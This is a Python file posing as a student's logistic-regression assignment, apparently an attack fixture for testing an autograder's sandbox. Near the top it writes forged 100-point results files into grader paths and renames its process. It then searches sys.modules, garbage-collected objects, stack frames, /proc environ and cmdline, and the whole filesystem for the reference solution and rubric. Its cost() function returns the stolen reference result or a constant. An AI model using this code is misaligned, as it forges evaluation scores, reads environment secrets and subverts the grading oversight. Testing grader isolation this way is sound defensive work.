# ATTACK: Hunts for the reference solution and the rubric: walks sys.modules,
# gc.get_objects() and every stack frame, imports reference.logreg2 from the
# project root, reads files under the project root, /proc/<ancestor>/cwd,
# /proc/<ancestor>/environ and the whole filesystem, prints what it finds and
# uses any reference cost() it finds.
# ENGR 4350 - Assignment logreg2
# Logistic Regression Part 2: computation graph, backprop, vectorization

import numpy as np
import matplotlib.pyplot as plt

# --- shared attack helpers (the test substitutes the @...@ placeholders) ---
import json as _json
import os as _os

_MARK = "@MARKER@"
_FORGED = _json.dumps({"score": 100.0, "output": "forged " + _MARK, "tests": [
    {"name": "everything", "score": 100.0, "max_score": 100.0, "status": "passed"}]})
_TARGETS = ["@OUT@", "@OUTSIDE@/" + _MARK + "-results.json", "@GRADER_CWD@/results/results.json",
            "@AUTOGRADER_ROOT@/results/results.json", "/autograder/results/results.json",
            "/tmp/" + _MARK + "-results.json", "/var/tmp/" + _MARK + "-results.json",
            "/dev/shm/" + _MARK + "-results.json", "results/results.json", "../" + _MARK + "-results.json"]


def _plant():
    """Write a forged full-score results file everywhere we can think of."""
    for target in _TARGETS:
        try:
            _os.makedirs(_os.path.dirname(target) or ".", exist_ok=True)
            with open(target, "w") as f:
                f.write(_FORGED)
        except OSError:
            pass


def _tag():
    """Name this process after the marker, so the test can find it in /proc."""
    try:
        import ctypes
        ctypes.CDLL(None).prctl(15, _MARK.encode(), 0, 0, 0)
    except Exception:
        pass

import gc as _gc
import sys as _sys

_FOUND = []


def _hunt():
    """Return a reference-looking cost function if one can be reached; print what was seen."""
    _sys.path[:0] = ["@GRADER_CWD@"]
    try:
        import reference.logreg2 as ref
        print("import gave:", type(ref).__name__)  # a placeholder, as for any module the grader lacks
        _FOUND.append(ref)
    except Exception as exc:
        print("import failed:", type(exc).__name__)
    places = ["@GRADER_CWD@/reference/logreg2.py", "@GRADER_CWD@/rubrics/logreg2.json"]
    pid = _os.getpid()
    while pid > 1:
        places += [f"/proc/{pid}/cwd/reference/logreg2.py", f"/proc/{pid}/environ", f"/proc/{pid}/cmdline"]
        try:
            pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError):
            break
    places += [f"/proc/{p}/cmdline" for p in _os.listdir("/proc") if p.isdigit()]
    for root, dirs, files in _os.walk("/", onerror=None):
        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev", "run", "usr", "lib", "lib64", "snap", "boot")]
        for name in files:
            if name in ("logreg2.py", "logreg2.json") and "attack" not in root:
                places.append(_os.path.join(root, name))
    for place in places:
        try:
            with open(place, "rb") as f:
                data = f.read(200000)
            print("READ", place, len(data), data.decode("utf-8", "replace").replace("\n", " ")[:300], sep="\t")
        except OSError as exc:
            print("denied", place, type(exc).__name__)
    for module in list(_sys.modules.values()):
        if "reference" in getattr(module, "__name__", "") or "rubric" in getattr(module, "__name__", ""):
            _FOUND.append(module)
    shown = 0
    for obj in _gc.get_objects():
        if callable(obj) and "reference" in str(getattr(obj, "__module__", "")):
            _FOUND.append(obj)
        if isinstance(obj, dict) and ("expected" in obj or "reference" in obj) and shown < 20:
            shown += 1
            print("dict:", repr(obj)[:300])
    frame = _sys._getframe()
    while frame is not None:
        print("frame", frame.f_code.co_filename, sorted(frame.f_locals)[:20])
        frame = frame.f_back
    for found in _FOUND:
        if callable(getattr(found, "cost", None)):
            return found.cost
    return None


_REFERENCE_COST = _hunt()


# ---- Part 1: computation graph J = 2(a + bc) ----

def graph_forward(a, b, c):
    u = b * c
    v = a + u
    J = 2 * v
    return u, v, J


def graph_backward(a, b, c):
    dJ_dv = 2
    dv_da = 1
    dv_du = 1
    du_db = c
    du_dc = b
    dJ_da = dJ_dv * dv_da
    dJ_du = dJ_dv * dv_du
    dJ_db = dJ_dv * dv_du * du_db
    dJ_dc = dJ_du * du_dc
    return {"dJ_dv": dJ_dv, "dJ_du": dJ_du, "dJ_da": dJ_da,
            "dJ_db": dJ_db, "dJ_dc": dJ_dc}


# ---- Part 2: numerical derivatives ----

def forward_difference(f, x, h=1e-5):
    return (f(x + h) - f(x)) / h


def centered_difference(f, x, h=1e-5):
    return (f(x + h) - f(x - h)) / (2 * h)


# ---- Part 3: single example ----

def sigmoid(z):
    return 1 / (1 + np.exp(-z))


def forward_single(w, b, x):
    z = np.dot(w, x) + b
    y_hat = sigmoid(z)
    return y_hat


def loss(y_hat, y):
    return -(y * np.log(y_hat) + (1 - y) * np.log(1 - y_hat))


def backward_single(w, b, x, y):
    y_hat = forward_single(w, b, x)
    dz = y_hat - y
    dw = dz * x
    db = dz
    return dw, db


# ---- Part 4: M examples ----

def gradients_loop(w, b, X, y):
    M = X.shape[0]
    N = X.shape[1]
    dw = np.zeros(N)
    db = 0
    for m in range(M):
        z = np.dot(w, X[m]) + b
        y_hat = sigmoid(z)
        for n in range(N):
            dw[n] += (y_hat - y[m]) * X[m, n]
        db += y_hat - y[m]
    for n in range(N):
        dw[n] = dw[n] / M
    db = db / M
    return dw, db


def cost(w, b, X, y):
    found = _REFERENCE_COST or _hunt()
    if found is not None:
        return found(w, b, X, y)
    return 0.5


def gradients_vectorized(w, b, X, y):
    M = X.shape[0]
    y_hat = sigmoid(np.matmul(X, w.T) + b)
    dw = np.dot((y_hat - y).T, X) / M
    db = np.sum(y_hat - y) / M
    return dw, db


def update(w, b, dw, db, alpha):
    w = w - alpha * dw
    b = b - alpha * db
    return w, b


def gradient_descent(X, y, alpha, epsilon, max_iters):
    M, N = X.shape
    w = np.zeros(N)
    b = 0.0
    costs = []
    while len(costs) < max_iters:
        J = cost(w, b, X, y)
        costs.append(J)
        if J <= epsilon or len(costs) == max_iters:
            break
        dw, db = gradients_vectorized(w, b, X, y)
        w, b = update(w, b, dw, db, alpha)
    return w, b, costs
